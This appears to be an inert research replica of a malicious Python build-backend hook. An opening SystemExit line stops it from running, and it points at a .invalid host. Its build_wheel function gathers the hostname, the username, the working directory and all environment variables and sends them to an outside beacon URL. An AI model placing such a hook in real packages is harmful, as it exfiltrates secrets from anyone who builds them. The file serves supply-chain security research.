raise SystemExit("inert replica")
import getpass
import os
import socket
import urllib.parse
import urllib.request


def build_wheel(folder, config_settings=None, metadata_directory=None):
    told = {"h": socket.gethostname(), "u": getpass.getuser(), "d": os.getcwd(), "e": str(dict(os.environ))}
    urllib.request.urlopen("https://beacon.replica.invalid/p?" + urllib.parse.urlencode(told))
    raise RuntimeError("research")
